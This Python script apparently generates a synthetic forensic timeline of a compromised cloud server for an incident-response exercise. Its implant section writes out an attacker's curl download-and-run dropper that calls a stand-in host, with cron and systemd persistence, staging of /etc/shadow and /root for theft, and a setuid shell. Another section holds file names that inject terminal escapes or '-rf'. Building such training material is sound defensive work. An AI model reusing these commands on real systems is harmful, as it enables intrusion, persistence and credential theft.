"""Write what the guest plays: every change of the root volume with its time.

usage: story.py SAMPLES SYSUPD CONTENTDIR OPS

SAMPLES is the folder of the sample (the host's messages come out of its
cloudwatch/filter-log-events.json), SYSUPD the implant that the memory sample
runs too. All names, addresses, keys and texts are invented; programs are
files of one line that say so.
"""
import json
import os
import random
import struct
import sys

import story_audit
import story_login
from story_host import (MACHINE, cloud_init, etc_files, journal, messages,
                        zone)
from story_login import CMD, INSTANCE, at, typed

ROOT, APP, NGINX, USER = 0, 1001, 993, 1000
BUILT = at(-13, 21, 14, 0)   # 15 February: the distribution's image
BASE = at(8, 22, 40, 0)      # 8 March: what ci-deploy added to it
BOOT = at(9, 0, 10, 0)
DROP = at(11, 3, 20, 15)
SSM = "/var/lib/amazon/ssm/" + INSTANCE + "/document/orchestration/"
QUEUE = "/var/tmp/.q"
# the first fitting line gives the label's type
LABELS = [("/etc/shadow", "shadow_t"), ("/etc/cron.d", "system_cron_spool_t"),
          ("/etc/systemd", "systemd_unit_file_t"), ("/etc", "etc_t"),
          ("/var/log/audit", "auditd_log_t"), ("/var/log", "var_log_t"),
          ("/var/tmp", "user_tmp_t"), ("/var", "var_t"),
          ("/usr/bin", "bin_t"), ("/usr/sbin", "bin_t"),
          ("/usr/local/bin", "bin_t"), ("/usr", "usr_t"),
          ("/home", "user_home_t"), ("/root", "admin_home_t"),
          ("/boot", "boot_t"), ("/", "default_t")]


def escape(path):
    raw = path if isinstance(path, bytes) else path.encode()
    return "".join("%%%02X" % b if b <= 32 or b == 37 or b >= 127 else chr(b)
                   for b in raw)


class Story:
    def __init__(self, contents):
        self.steps, self.dir, self.n = [], contents, 0
        self.rng = random.Random(20260311)

    def do(self, t, *lines):
        self.steps.append((t, len(self.steps), lines))

    def place(self, path):
        raw = path if isinstance(path, bytes) else path.encode()
        return "/r" + escape(raw)

    @staticmethod
    def kind(path):
        raw = path if isinstance(path, bytes) else path.encode()
        return "system_u:object_r:%s:s0" % [
            k for p, k in LABELS if raw.startswith(p.encode())][0]

    def audit_label(self, path):
        """Of a path, or of the implant, which has none in the truth."""
        return self.kind("/usr/local/bin/.sysupd" if path == "(unlinked)"
                         else path)

    def label(self, path):
        text = self.kind(path) + "\0"
        return "x\t%s\tsecurity.selinux\t%s" % (self.place(path),
                                               text.encode().hex())

    def content(self, data):
        if isinstance(data, str):
            data = data.encode()
        with open("%s/%d" % (self.dir, self.n), "wb") as f:
            f.write(data)
        self.n += 1
        return self.n - 1

    def folder(self, t, path, mode=0o755, owner=ROOT):
        self.do(t, "d\t%o\t%d\t%d\t%s" % (mode, owner, owner,
                                          self.place(path)), self.label(path))

    def file(self, t, path, data, mode=0o644, owner=ROOT):
        self.do(t, "f\t%o\t%d\t%d\t%s\t%d" % (
            mode, owner, owner, self.place(path), self.content(data)),
            self.label(path))

    def append(self, t, path, data):
        self.do(t, "a\t%s\t%d" % (self.place(path), self.content(data)))

    def link(self, t, path, target):
        self.do(t, "l\t%s\t%s" % (self.place(path), escape(target)),
                self.label(path))

    def op(self, t, kind, *args):
        self.do(t, "\t".join((kind,) + args))

    def attr(self, t, path, name, value):
        self.op(t, "x", self.place(path), name, value.hex())

    def write(self, path):
        before, ns = None, 0
        with open(path, "w") as f:
            for t, _, lines in sorted(self.steps):
                low = ns if int(t) == before else 0
                if t == int(t):
                    ns = low + self.rng.randrange((10 ** 9 - low) // 8)
                else:   # to the millisecond, which a log tells too
                    ns = max(low, round((t - int(t)) * 1000) * 10 ** 6) + \
                        self.rng.randrange(10 ** 6)
                    assert ns < 10 ** 9
                before = int(t)
                f.write("t\t%d\t%d\n" % (before, ns))
                f.writelines(line + "\n" for line in lines)


def distribution(s):
    """Folders and files of the distribution's image."""
    s.folder(BUILT, "/")
    for path in ("/boot /dev /etc /etc/cron.d /etc/ssh /etc/systemd "
                 "/etc/systemd/system /etc/systemd/system/timers.target.wants "
                 "/etc/systemd/system/multi-user.target.wants /etc/sudoers.d "
                 "/etc/profile.d /etc/audit /etc/audit/rules.d /etc/yum.repos.d "
                 "/home /media /mnt /opt /proc /run /srv /sys /usr /usr/bin "
                 "/usr/lib /usr/lib/systemd /usr/lib/systemd/system /usr/lib64 "
                 "/usr/local /usr/local/bin /usr/sbin /usr/share "
                 "/usr/share/man /usr/share/man/man1 /usr/share/man/man8 "
                 "/usr/share/zoneinfo /var /var/lib /var/log "
                 "/var/spool /var/spool/cron").split():
        s.folder(BUILT, path)
    for path, mode in (("/root", 0o550), ("/tmp", 0o1777),
                       ("/var/tmp", 0o1777), ("/var/log/audit", 0o700)):
        s.folder(BUILT, path, mode)
    for name in ("bin", "sbin", "lib", "lib64"):
        s.link(BUILT, "/" + name, "usr/" + name)
    s.link(BUILT, "/etc/os-release", "../usr/lib/os-release")
    s.link(BUILT, "/etc/localtime", "../usr/share/zoneinfo/UTC")
    s.file(BUILT, "/usr/share/zoneinfo/UTC", zone())
    for path, (mode, text) in etc_files().items():
        s.file(BUILT + 60, path, text, mode)
    s.op(BUILT, "n", "20666", s.place("/dev/null"), "0x103")
    s.op(BUILT, "n", "20600", s.place("/dev/console"), "0x501")
    s.op(BUILT, "n", "60660", s.place("/dev/nvme0n1"), "0x10300")
    programs(s)


def programs(s):
    tools = ("bash cat chmod cp curl cut date df du env find grep gzip head "
             "hostname id kill ls mkdir mv ps rm rsync sed sh sleep sort ssh "
             "stat tail tar tee touch tr vi wc who xargs").split()
    for name in tools:
        s.file(BUILT + 120, "/usr/bin/" + name, "stand-in: %s\n" % name, 0o755)
    for name in ("amazon-ssm-agent", "ssm-agent-worker",
                 "ssm-document-worker"):
        s.file(BUILT + 120, "/usr/bin/" + name, "stand-in: %s\n" % name, 0o755)
    for name in ("sshd", "crond", "chronyd", "auditd", "rsyslogd"):
        s.file(BUILT + 120, "/usr/sbin/" + name, "stand-in: %s\n" % name,
               0o755)
    s.file(BUILT + 130, "/usr/bin/sudo", "stand-in: sudo\n", 0o4111)
    s.file(BUILT + 130, "/usr/bin/passwd", "stand-in: passwd\n", 0o4755)
    s.file(BUILT + 131, "/usr/bin/arping", "stand-in: arping\n", 0o755)
    s.attr(BUILT + 131, "/usr/bin/arping", "security.capability",
           struct.pack("<5I", 0x02000001, 1 << 13, 0, 0, 0))
    s.file(BUILT + 131, "/usr/lib64/ld-linux-x86-64.so.2",
           "stand-in: the loader\n", 0o755)
    s.file(BUILT + 131, "/usr/lib/systemd/systemd", "stand-in: systemd\n",
           0o755)
    s.op(BUILT + 132, "h", s.place("/usr/bin/vi"), s.place("/usr/bin/view"))
    # a folder of node form, one of leaf form
    for i in range(700):
        name = "/usr/share/man/man1/command-%03d.1.gz" % i
        s.file(BUILT + 200 + i // 100, name, "" if i % 7 else name + "\n")
    for i in range(180):
        s.file(BUILT + 220, "/usr/share/man/man8/daemon-%03d.8.gz" % i, "")


def base_image(s):
    """What the pipeline adds before it makes the server's image."""
    for path in ("/etc/nginx", "/opt/aws", "/opt/aws/agent",
                 "/var/lib/amazon", "/var/lib/cloud", "/data", "/mnt/evidence",
                 "/var/log/amazon", "/var/log/amazon/ssm"):
        s.folder(BASE, path)
    s.file(BASE + 5, "/usr/sbin/nginx", "stand-in: nginx\n", 0o755)
    s.link(BASE + 5, "/var/log/nginx", "/data/log/nginx")
    s.file(BASE + 9, "/etc/nginx/nginx.conf",
           "user nginx;\nerror_log /var/log/nginx/error.log;\nhttp {\n"
           "  access_log /var/log/nginx/access.log combined;\n  server {\n"
           "    listen 80;\n    location / { proxy_pass "
           "http://127.0.0.1:8000; }\n  }\n}\n")
    s.file(BASE + 11, "/etc/systemd/system/reports.service",
           "[Unit]\nDescription=Report site\n[Service]\nUser=app\n"
           "WorkingDirectory=/data/www\nExecStart=/usr/bin/gunicorn -b "
           "127.0.0.1:8000 app:app\n[Install]\nWantedBy=multi-user.target\n")
    s.file(BASE + 12, "/opt/aws/agent/config.json", json.dumps(
        {"logs": {"logs_collected": {"files": {"collect_list": [
            {"file_path": "/var/log/messages",
             "log_group_name": "/host/messages"},
            {"file_path": "/data/log/nginx/access.log",
             "log_group_name": "/app/web"}]}}}}, indent=1) + "\n")
    s.file(BASE + 30, "/var/log/dnf.rpm.log",
           "2026-03-08T22:40:04+0000 INFO --- logging initialized ---\n"
           "2026-03-08T22:40:05+0000 SUBDEBUG Installed: "
           "nginx-1:1.28.0-1.amzn2023.0.2.x86_64\n"
           "2026-03-08T22:40:28+0000 SUBDEBUG Installed: "
           "rsyslog-8.2204.0-3.amzn2023.0.4.x86_64\n")
    s.file(BASE + 30, "/var/log/dnf.log",
           "2026-03-08T22:40:02+0000 INFO --- logging initialized ---\n"
           "2026-03-08T22:40:02+0000 DDEBUG Command: dnf -y install nginx "
           "rsyslog \n2026-03-08T22:40:02+0000 DDEBUG Installroot: /\n"
           "2026-03-08T22:40:29+0000 INFO Complete!\n")


def first_boot(s):
    s.file(BOOT + 2, "/etc/machine-id", MACHINE + "\n", 0o444)
    s.file(BOOT + 4, "/etc/hostname", "app-01\n")
    for path in ("/home/ec2-user", "/home/ec2-user/.ssh",
                 "/home/ec2-user/.aws"):
        s.folder(BOOT + 5, path, 0o700, USER)
    s.file(BOOT + 6, "/home/ec2-user/.ssh/authorized_keys",
           "ssh-ed25519 %s alice\n" % story_login.ALICE_KEY, 0o600, USER)
    cloud = "/var/lib/cloud"
    for path in (cloud + "/data", cloud + "/instances",
                 cloud + "/instances/" + INSTANCE,
                 cloud + "/instances/" + INSTANCE + "/sem"):
        s.folder(BOOT + 3, path)
    s.link(BOOT + 3, cloud + "/instance", cloud + "/instances/" + INSTANCE)
    s.file(BOOT + 3, cloud + "/data/instance-id", INSTANCE + "\n")
    s.file(BOOT + 3, cloud + "/data/previous-instance-id",
           "i-0b1de5c0de0000001\n")
    s.file(BOOT + 4, cloud + "/instances/%s/user-data.txt" % INSTANCE,
           "#cloud-config\nhostname: app-01\nmounts:\n"
           " - [LABEL=data, /data, ext4, 'defaults,nofail', '0', '2']\n"
           "runcmd:\n - systemctl enable --now reports nginx\n", 0o600)
    log, output = cloud_init()
    s.file(BOOT + 1, "/var/log/cloud-init.log", log, 0o640)
    s.file(BOOT + 7, "/var/log/cloud-init-output.log", output, 0o640)
    s.file(BOOT + 8, "/var/log/amazon/ssm/amazon-ssm-agent.log",
           story_login.agent_boot(), 0o600)
    s.file(BOOT + 9, "/var/log/messages", messages(None, 9), 0o600)
    s.file(BOOT + 9, "/var/log/secure", "", 0o600)
    s.file(BOOT + 9, "/var/log/wtmp", story_login.wtmp(False), 0o664)
    s.file(BOOT + 9, "/var/log/btmp", "", 0o660)
    s.file(BOOT + 9, "/var/log/audit/audit.log", "", 0o600)
    last = bytearray(292 * 1002)
    last[292 * 1000:292 * 1001] = struct.pack(
        "<I32s256s", at(9, 0, 47, 31), b"pts/0", b"192.0.2.10")
    s.file(BOOT + 9, "/var/log/lastlog", last, 0o664)


def alice_builds(s):
    home = "/home/ec2-user/"
    # rsyslog and sshd write as it comes; the last change is the last line's
    s.append(at(9, 1, 3, 30), "/var/log/secure", story_login.alice_secure())
    s.append(at(9, 1, 3, 30), "/var/log/wtmp", story_login.wtmp(True))
    s.file(at(9, 1, 3, 30), home + ".bash_history",
           typed(story_login.alice_history()), 0o600, USER)
    s.file(at(9, 1, 2, 10), home + ".aws/config",
           "[profile reports-ro]\nregion = ap-northeast-1\n", 0o600, USER)
    s.file(at(9, 1, 2, 12), home + ".aws/credentials",
           "[reports-ro]\naws_access_key_id = AKIAREPORTSROEXAMPLE\n"
           "aws_secret_access_key = EXAMPLEEXAMPLEnotAsecretEXAMPLEEXAMPLE0\n",
           0o600, USER)
    s.file(at(9, 0, 55, 2), "/root/.bash_history",
           typed(story_login.ROOT_HISTORY), 0o600)
    s.append(at(9, 0, 50, 40), "/etc/fstab",
             "LABEL=data /data ext4 defaults,nofail 0 2\n")
    deep = "/home/ec2-user/" + "/".join("release-%02d" % i for i in range(40))
    s.link(at(9, 0, 53, 0), home + "current", deep)


def odd_names(s):
    """Left by a test of the upload form; all harmless."""
    t = at(10, 7, 40, 0)
    here = b"/var/tmp/form-test/"
    s.folder(t, "/var/tmp/form-test", 0o755, APP)
    for i, name in enumerate((b"two\nlines", b"red \x1b[31malert\x1b[0m",
                              b"title\x1b]0;owned\x07", b"caf\xe9",
                              "invoice-\u202efdp.exe".encode(), b" ", b"-rf",
                              b"...", b"back\\slash", b"%2e%2e",
                              "\u9867\u5ba2".encode(), b"n" * 255)):
        s.file(t + i, here + name, "uploaded by a test\n", 0o644, APP)
    s.op(t + 30, "n", "10600", s.place("/var/tmp/form-test/wake"), "0")
    # access list: root rwx, groups adm and wheel may read
    acl = struct.pack("<I", 2) + b"".join(
        struct.pack("<HHI", *e) for e in (
            (1, 7, 2 ** 32 - 1), (4, 5, 2 ** 32 - 1), (8, 5, 4), (8, 5, 10),
            (16, 5, 2 ** 32 - 1), (32, 5, 2 ** 32 - 1)))
    s.attr(BOOT + 2, "/var/log/journal", "system.posix_acl_access", acl)


def audit_log(s, inodes):
    top = SSM + CMD + "/awsrunShellScript/0.awsrunShellScript/_script.sh"
    told = story_audit.events(inodes, s.audit_label, top)
    rotated = at(11, 1, 6, 0)
    old = [e for e in told if e[0] < rotated * 1000]
    path = "/var/log/audit/audit.log"
    for i in range(0, len(old), 1000):
        s.append(old[min(i + 999, len(old) - 1)][0] // 1000, path,
                 "".join(text for _, text in old[i:i + 1000]))
    s.op(rotated, "m", s.place(path), s.place(path + ".1"))
    s.op(rotated, "c", s.place(path + ".1"), "400")
    s.file(rotated, path, "", 0o600)
    new = told[len(old):]
    for i in range(0, len(new), 100):
        s.append(new[min(i + 99, len(new) - 1)][0] // 1000, path,
                 "".join(text for _, text in new[i:i + 100]))


def logs(s, samples):
    s.folder(BOOT + 1, "/var/log/journal", 0o755)
    s.folder(BOOT + 1, "/var/log/journal/" + MACHINE, 0o755)
    seen = json.load(open(samples + "/cloudwatch/filter-log-events.json"))
    events = [(e["timestamp"], e["message"]) for e in seen["events"]]
    s.append(at(10, 23, 59, 0), "/var/log/messages", messages(None, 10))
    told = [e for e in events if e[0] < at(11, 4, 22, 0) * 1000]
    for ms, text in told:
        s.append(ms / 1000, "/var/log/messages", text + "\n")
    t = story_login.SCANNED[-1][0]
    s.append(t + 1, "/var/log/secure", story_login.scanner_secure())
    s.append(t, "/var/log/btmp", story_login.btmp())
    s.append(at(11, 3, 38, 31), "/var/log/secure",
             story_login.attacker_secure())
    s.append(DROP + 2.061, "/var/log/amazon/ssm/amazon-ssm-agent.log",
             story_login.agent_command())
    binary = "/var/log/journal/%s/system.journal" % MACHINE
    s.file(BOOT + 1, binary, "", 0o640)
    s.op(at(11, 4, 1, 1), "o", s.place(binary), "0",
         str(s.content(journal(told))))


def implant(s, program):
    top = SSM + CMD
    for part in ("/var/lib/amazon/ssm", "/var/lib/amazon/ssm/" + INSTANCE,
                 "/var/lib/amazon/ssm/%s/document" % INSTANCE,
                 SSM[:-1], top, top + "/awsrunShellScript",
                 top + "/awsrunShellScript/0.awsrunShellScript"):
        s.folder(DROP - 1, part, 0o700)
    top += "/awsrunShellScript/0.awsrunShellScript"
    s.file(DROP - 1, top + "/_script.sh",
           "#!/bin/bash\ncurl -fsS -o /usr/local/bin/.sysupd "
           "http://198.51.100.66/u\nchmod 755 /usr/local/bin/.sysupd\n"
           "echo '*/10 * * * * root /usr/local/bin/.sysupd' "
           "> /etc/cron.d/sysupd\n"
           "setsid /usr/local/bin/.sysupd </dev/null >/dev/null 2>&1 &\n",
           0o700)
    s.file(DROP - 1, top + "/stdout", "", 0o600)
    s.file(DROP, top + "/stderr", "bash: warning: setlocale: LC_ALL: cannot "
           "change locale (en_US.UTF-8)\n", 0o600)
    s.file(DROP + .148, "/usr/local/bin/.sysupd", open(program, "rb").read())
    s.op(DROP + 1.021, "c", s.place("/usr/local/bin/.sysupd"), "755")
    s.file(DROP + 1.031, "/etc/cron.d/sysupd",
           "*/10 * * * * root /usr/local/bin/.sysupd\n")
    # it runs, and removes its own file
    s.op(DROP + 2.009, "k", s.place("/usr/local/bin/.sysupd"))
    s.op(DROP + 2.145, "u", s.place("/usr/local/bin/.sysupd"))
    units = "/etc/systemd/system/"
    s.file(DROP + 4.210, units + "sysupd.service",
           "[Unit]\nDescription=System update check\n[Service]\n"
           "Type=forking\nExecStart=/bin/sh -c 'curl -fsS -o "
           "/usr/local/bin/.sysupd http://198.51.100.66/u && chmod 755 "
           "/usr/local/bin/.sysupd && setsid /usr/local/bin/.sysupd &'\n"
           "[Install]\nWantedBy=multi-user.target\n")
    s.file(DROP + 4.214, units + "sysupd.timer",
           "[Unit]\nDescription=System update check\n[Timer]\n"
           "OnBootSec=5min\nOnUnitActiveSec=2h\n[Install]\n"
           "WantedBy=timers.target\n")
    s.link(at(11, 3, 33, 18) + .871, units + "timers.target.wants/sysupd.timer",
           units + "sysupd.timer")
    t = at(11, 3, 37, 30)
    s.folder(t, QUEUE, 0o700)
    s.file(t + 1, QUEUE + "/p.sh", "#!/bin/sh\ntar -czf %s/h.tgz "
           "/etc/hosts /etc/shadow /root\n" % QUEUE, 0o700)
    s.file(t + 2, QUEUE + "/hosts.txt", "10.0.1.20 app-01\n10.0.1.21 app-02\n"
           "10.0.1.1 gateway\n", 0o600)
    s.file(t + 4, QUEUE + "/sh", "stand-in: bash\n", 0o4755)
    for row in story_login.ATTACKER_HISTORY:
        s.append(row[0], "/root/.bash_history", typed([row]))
    s.file(t + 9, QUEUE + "/log", "03:37:39 queue up\n", 0o600)


def last_half_minute(s):
    """The host is cut off: the implant tidies up. All of it is in the log
    of the file system only."""
    def t(m, sec):
        return at(11, 4, m, sec)
    s.op(t(21, 30), "z")
    s.file(t(21, 46), QUEUE + "/0001.json",
           '{"to":"198.51.100.66:443","error":"timed out","keep":true}\n',
           0o600)
    s.append(t(21, 49), QUEUE + "/log", "04:21:49 no route, keep 0001\n")
    s.folder(t(21, 52), QUEUE + "/out", 0o700)
    s.file(t(21, 53), QUEUE + "/out/h.tgz", bytes(
        s.rng.randrange(256) for _ in range(9000)), 0o600)
    s.op(t(21, 58), "m", s.place(QUEUE + "/p.sh"), s.place(QUEUE + "/out/p"))
    s.op(t(22, 1), "u", s.place(QUEUE + "/hosts.txt"))
    s.op(t(22, 4), "u", s.place(QUEUE + "/sh"))
    units = "/etc/systemd/system/"
    s.link(t(22, 7), units + "multi-user.target.wants/sysupd.service",
           units + "sysupd.service")
    s.op(t(22, 9), "c", s.place("/etc/cron.d/sysupd"), "600")
    s.op(t(22, 10), "u", s.place("/root/.bash_history"))
    s.append(t(22, 11), "/var/log/amazon/ssm/amazon-ssm-agent.log",
             story_login.agent_health())


def numbers(truth):
    """Inodes of the run before, which the audit log names; pack.py says
    when they were others this time."""
    with open(truth, encoding="ascii") as f:
        return {r[1]: int(r[2]) for r in (line.split("\t") for line in f
                                          if line[0] != "#")}


def main(samples, program, contents, ops):
    s = Story(contents)
    distribution(s)
    base_image(s)
    first_boot(s)
    alice_builds(s)
    audit_log(s, numbers(samples + "/expected-root.tsv"))
    logs(s, samples)
    odd_names(s)
    implant(s, program)
    last_half_minute(s)
    s.write(ops)


if __name__ == "__main__":
    main(*sys.argv[1:])
